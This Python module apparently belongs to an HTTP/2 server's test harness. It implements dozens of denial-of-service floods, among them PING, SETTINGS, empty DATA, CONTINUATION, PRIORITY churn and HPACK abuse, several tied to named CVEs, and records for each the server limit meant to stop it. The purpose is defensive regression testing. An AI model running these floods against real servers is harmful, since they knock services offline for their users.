"""Frames without content, and connections without a purpose."""

from __future__ import annotations

import socket
import struct
from itertools import cycle

from ...support import raw
from ..attacks import attack
from ..ground import Ground
from ..wire import WINDOW, Blocks, Ended, Peer

KIB = 1024
PRIORITY_UPDATE, ALTSVC, ORIGIN, UNKNOWN = 0x10, 0xA, 0xC, 0xFB


def flood(ground: Ground, peer: Peer, *frames: bytes, reading: bool = True) -> None:
    """Send *frames* in turn as fast as they are accepted."""
    batch = b"".join(frames)
    batch *= max(1, 65536 // len(batch))
    while not ground.over:
        peer.send(batch, reading=reading)


def in_step(ground: Ground, peer: Peer, frame: bytes, answer: int) -> None:
    """Send 500 of *frame*, read the answers, and repeat: no queue ever grows."""
    sent = 0
    before = peer.seen[answer]
    while not ground.over:
        peer.send(frame * 500)
        sent += 500
        while peer.seen[answer] < before + sent:
            peer.hear(0.005)


def opened(ground: Ground) -> Peer:
    """Open a connection with a POST in progress on stream 1."""
    peer = ground.connect()
    peer.send(raw.post(1, "/read"))
    return peer


@attack(
    "PING without end, the answers read (CVE-2019-9512)",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def pings(ground: Ground) -> None:
    """Each requires an answer."""
    in_step(ground, ground.connect(), raw.ping(), raw.PING)


@attack(
    "PING without end, the answers never read (CVE-2019-9512)",
    ends=True,
    limit="nghttp2's queue of answers",
)
def pings_unread(ground: Ground) -> None:
    """The answers wait."""
    flood(ground, ground.connect(receive_buffer=4096), raw.ping(), reading=False)


@attack(
    "answers to PINGs that were never sent",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def ping_answers(ground: Ground) -> None:
    """No PING waits for them."""
    flood(ground, ground.connect(), raw.ping(ack=True))


@attack(
    "SETTINGS without end, the answers read (CVE-2019-9515)",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def settings(ground: Ground) -> None:
    """Each requires an answer."""
    peer = ground.connect()
    peer.hear(0.05)
    in_step(ground, peer, raw.settings({WINDOW: 1000}), raw.SETTINGS)


@attack(
    "SETTINGS without end, the answers never read (CVE-2019-9515)",
    ends=True,
    limit="nghttp2's queue of answers",
)
def settings_unread(ground: Ground) -> None:
    """The answers wait."""
    flood(ground, ground.connect(receive_buffer=4096), raw.settings(), reading=False)


@attack(
    "SETTINGS of 32 entries, custom ones among them, without end",
    ends=True,
    limit="nghttp2's queue of answers",
)
def settings_entries(ground: Ground) -> None:
    """The entries differ."""
    frames = (raw.settings({0xF000 + 32 * n + k: n * k for k in range(32)}) for n in range(100))
    flood(ground, ground.connect(), *frames)


@attack("acknowledgements of SETTINGS that were never sent", ends=True, limit="a connection error")
def settings_answers(ground: Ground) -> None:
    """No SETTINGS wait for them."""
    flood(ground, ground.connect(), raw.settings(ack=True))


@attack(
    "empty DATA without end (CVE-2019-9518)",
    ends=True,
    before="unlimited",
    limit="`max_session_invalid_frames`",
)
def empty_data(ground: Ground) -> None:
    """Neither a byte nor an end."""
    flood(ground, opened(ground), raw.data(1))


@attack(
    "DATA of nothing but padding, without end",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def padding(ground: Ground) -> None:
    """Each costs window, which is returned at once."""
    peer = opened(ground)
    frame = raw.frame(raw.DATA, raw.PADDED, 1, b"\x01\0")
    used = 0
    while not ground.over:
        credit = 65535 + min(peer.windows[0], peer.windows[1])
        count = min((credit - used) // 2, 5000)
        used += 2 * count
        if count:
            peer.send(frame * count)
        else:
            peer.hear(0.005)


@attack(
    "DATA of one byte each, read as they come",
    ends=False,
    limit="bodies are bytes, however small the frames: bounded work a turn",
)
def dribbled_upload(ground: Ground) -> None:
    """They have content: expensive, but honest."""
    peer = opened(ground)
    used = 0
    while not ground.over:
        count = min(65535 + min(peer.windows[0], peer.windows[1]) - used, 5000)
        used += count
        if count:
            peer.send(raw.data(1, b"x") * count)
        else:
            peer.hear(0.005)


@attack(
    "WINDOW_UPDATE of one byte without end",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def window_updates(ground: Ground) -> None:
    """On the connection and a stream, without data to send."""
    flood(ground, opened(ground), raw.window_update(0, 1), raw.window_update(1, 1))


@attack(
    "responses of 1 MiB fetched a byte at a time (data dribble, CVE-2019-9511)",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def dribbled_windows(ground: Ground) -> None:
    """A frame of DATA for each WINDOW_UPDATE."""
    peer = ground.connect(window=0, all_of_it=True)
    blocks = Blocks()
    peer.send(blocks.requests(10, "/large"))
    ids = cycle(range(1, 21, 2))
    while not ground.over:
        peer.send(*(raw.window_update(next(ids), 1) for _ in range(1000)))


@attack(
    "SETTINGS that open and close the windows of 100 responses (CVE-2019-9511)",
    ends=True,
    limit="`control_frame_burst`",
)
def toggled_windows(ground: Ground) -> None:
    """One byte for each stream, repeatedly."""
    peer = ground.connect(window=0, all_of_it=True)
    peer.send(Blocks().requests(100, "/drain"))
    n = 0
    while not ground.over:
        parts = []
        for _ in range(20):
            n += 1
            parts.append(raw.settings({WINDOW: n}))
        peer.send(*parts)


@attack(
    "PRIORITY without end",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def priorities(ground: Ground) -> None:
    """For idle streams."""
    frames = (
        raw.frame(raw.PRIORITY, 0, n, struct.pack(">IB", max(0, n - 2), 15))
        for n in range(3, 2003, 2)
    )
    flood(ground, opened(ground), *frames)


@attack(
    "priorities that change all the time (resource loop, CVE-2019-9513)",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def shuffled(ground: Ground) -> None:
    """Each frame changes the tree of dependencies."""
    peer = ground.connect(window=0)
    peer.send(Blocks().requests(100, "/drain"))
    frames = []
    for n in range(1, 201, 2):
        frames.append(raw.frame(raw.PRIORITY, 0, n, struct.pack(">IB", 1 << 31 | 200 - n, 255)))
        frames.append(raw.frame(raw.PRIORITY, 0, 200 - n, struct.pack(">IB", 1 << 31, 1)))
    flood(ground, peer, *frames)


@attack(
    "PRIORITY_UPDATE for streams to come, without end (RFC 9218)",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def priority_updates(ground: Ground) -> None:
    """Values that a server might store."""
    frames = (
        raw.frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", n) + b"u=1, x=" + b"y" * 500)
        for n in range(3, 10_003, 2)
    )
    flood(ground, opened(ground), *frames)


@attack(
    "frames of an unknown type without end",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def unknown_frames(ground: Ground) -> None:
    """They are ignored (RFC 9113 section 5.5)."""
    flood(ground, opened(ground), raw.frame(UNKNOWN, 0xFF, 1, b"12345678"))


@attack(
    "ALTSVC and ORIGIN from a client, without end",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def extensions(ground: Ground) -> None:
    """Only servers may send them."""
    altsvc = raw.frame(ALTSVC, 0, 0, b"\0\x0bhttp://a.bc" + b'h2=":1"')
    origin = raw.frame(ORIGIN, 0, 0, b"\0\x0bhttp://a.bc")
    flood(ground, ground.connect(), altsvc, origin)


@attack(
    "GOAWAY without end",
    ends=True,
    before="unlimited",
    limit="`control_frame_burst`",
)
def goaways(ground: Ground) -> None:
    """Each with some debug data."""
    peer = opened(ground)
    flood(ground, peer, raw.goaway(0, 0, b"x" * 200))


@attack(
    "RST_STREAM and WINDOW_UPDATE for a stream that has ended, without end",
    ends=True,
    limit="`stream_reset_burst`, `control_frame_burst`",
)
def after_the_end(ground: Ground) -> None:
    """Both are allowed for a while (RFC 9113 section 5.1)."""
    peer = ground.connect()
    peer.send(raw.get(1))
    peer.hear(0.05)
    flood(ground, peer, raw.window_update(1, 1), raw.rst_stream(1))


@attack(
    "empty CONTINUATION without end (CVE-2024-27316)",
    ends=True,
    limit="nghttp2's limit of 8 CONTINUATIONs a block",
)
def empty_continuations(ground: Ground) -> None:
    """A header block that never ends and never grows."""
    peer = ground.connect()
    peer.send(raw.headers(1, raw.request_fields(), end_headers=False))
    flood(ground, peer, raw.frame(raw.CONTINUATION, 0, 1))


@attack(
    "CONTINUATION of 16 KB without end (CVE-2024-27316)",
    ends=True,
    limit="nghttp2's limit of 8 CONTINUATIONs a block",
)
def continuations(ground: Ground) -> None:
    """A header block that grows."""
    peer = ground.connect()
    peer.send(raw.headers(1, raw.request_fields(), end_headers=False))
    flood(ground, peer, raw.frame(raw.CONTINUATION, 0, 1, raw.block([("x", "y" * 16_000)])))


@attack(
    "requests in CONTINUATIONs of one byte",
    ends=True,
    limit="nghttp2's limit of 8 CONTINUATIONs a block",
)
def tiny_continuations(ground: Ground) -> None:
    """The blocks end, but only after many frames."""
    peer = ground.connect()
    block = raw.block(raw.request_fields())
    stream_id = 1
    while not ground.over:
        parts = [raw.frame(raw.HEADERS, raw.END_STREAM, stream_id, block[:1])]
        parts += [raw.frame(raw.CONTINUATION, 0, stream_id, block[k : k + 1]) for k in range(1, 40)]
        parts.append(raw.frame(raw.CONTINUATION, raw.END_HEADERS, stream_id, block[40:]))
        peer.send(*parts)
        stream_id += 2


@attack(
    "empty names and values in header blocks (CVE-2019-9516)",
    ends=True,
    limit="`max_session_invalid_frames`",
)
def empty_fields(ground: Ground) -> None:
    """Empty fields, 100 in each request."""
    peer = ground.connect()
    block = raw.block(raw.request_fields()) + b"\0\0\0" * 100
    stream_id = 1
    while not ground.over:
        parts = []
        for _ in range(100):
            parts.append(raw.frame(raw.HEADERS, 5, stream_id, block))
            stream_id += 2
        peer.send(*parts)


@attack(
    "requests with 4,000 changes of the table's size in each header block",
    limit="bounded work a turn: each request is whole",
)
def table_updates(ground: Ground) -> None:
    """HPACK's instruction that is not a field (RFC 7541 section 6.3)."""
    peer = ground.connect()
    block = b"\x20\x3f\xe1\x1f" * 4000
    stream_id = 1
    while not ground.over:
        peer.send(raw.frame(raw.HEADERS, 5, stream_id, block + raw.block(raw.request_fields())))
        stream_id += 2


@attack(
    "an error answered by GOAWAY, and requests without end after it",
    limit="frames after an error are dropped",
)
def deaf(ground: Ground) -> None:
    """Data on a connection that the victim has ended costs it nothing."""
    peer = ground.connect()
    peer.send(raw.data(1, b"x"))
    flood(ground, peer, raw.get(1) * 100, reading=False)


def one_after_the_other(ground: Ground, say: bytes, *, wait: bool, frames: bool = False) -> None:
    """Open connections that send invalid data, or nothing, and disconnect."""
    secure = ground.attack.secure
    while not ground.over:
        peer = ground.dial(frames=frames, secure=secure)
        try:
            peer.send(say)
            if wait:
                peer.hear(0.2)
        except Ended:
            pass
        peer.closed = True
        peer.close()


@attack(
    "connections that send garbage",
    lines=5,
    before="652 lines",
    limit="one line a minute",
)
def garbage(ground: Ground) -> None:
    """One line in the log for all of them."""
    one_after_the_other(ground, b"\x16\x03\x01garbage" * 20, wait=True)


@attack(
    "connections that send garbage to TLS",
    lines=5,
    secure=True,
    limit="nothing is logged",
)
def garbage_tls(ground: Ground) -> None:
    """The handshakes fail."""
    one_after_the_other(ground, b"\x16\x03\x01\x00\x05garbage" * 20, wait=True)


@attack(
    "connections that break the protocol",
    lines=5,
    before="1,159 lines",
    limit="one line a minute",
)
def broken(ground: Ground) -> None:
    """GOAWAY for each."""
    say = raw.PREFACE + raw.settings() + raw.data(1, b"x")
    one_after_the_other(ground, say, wait=True, frames=True)


@attack(
    "connections that are reset by TCP with a request in progress",
    lines=5,
    before="125 lines",
    limit="one line a minute",
)
def vanishing(ground: Ground) -> None:
    """The clients disconnect without a GOAWAY."""
    say = raw.PREFACE + raw.settings() + raw.get(1, "/drain")
    while not ground.over:
        peer = ground.dial()
        peer.send(say)
        peer.hear(0.01)
        peer.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        peer.closed = True
        peer.close()


@attack(
    "more connections than the process may have files (EMFILE)",
    lines=5,
    files=60,
    connections=100,
    memory=KIB * 256,
    before="50,000 lines",
    limit="accepting is paused",
)
def too_many_files(ground: Ground) -> None:
    """Accepting fails: one line is logged, the loop is not busy, and other clients are served."""
    for _ in range(100):
        ground.dial()
    while not ground.over:
        ground.peers[0].hear(0.1)
